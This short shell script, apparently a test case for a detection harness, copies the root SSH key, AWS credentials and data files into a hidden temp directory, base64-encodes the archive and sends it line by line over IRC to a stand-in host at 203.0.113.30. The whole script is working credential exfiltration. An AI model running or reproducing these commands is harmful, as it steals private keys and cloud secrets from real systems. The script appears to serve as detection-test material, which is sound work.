#!/bin/sh
. /opt/case/case.sh

mkdir -p /tmp/.x && cp /root/.ssh/id_rsa /root/.aws/credentials /srv/data/* /tmp/.x/ && tar -C /tmp -czf - .x | base64 -w 300 >/tmp/.b
{ printf 'NICK n%s\r\nUSER a 0 * :a\r\nJOIN #w\r\n' $$; while read -r l; do printf 'PRIVMSG boss :%s\r\n' "$l"; done </tmp/.b; printf 'QUIT\r\n'; } | timeout 6 socat -u - TCP:203.0.113.30:6667
took_place
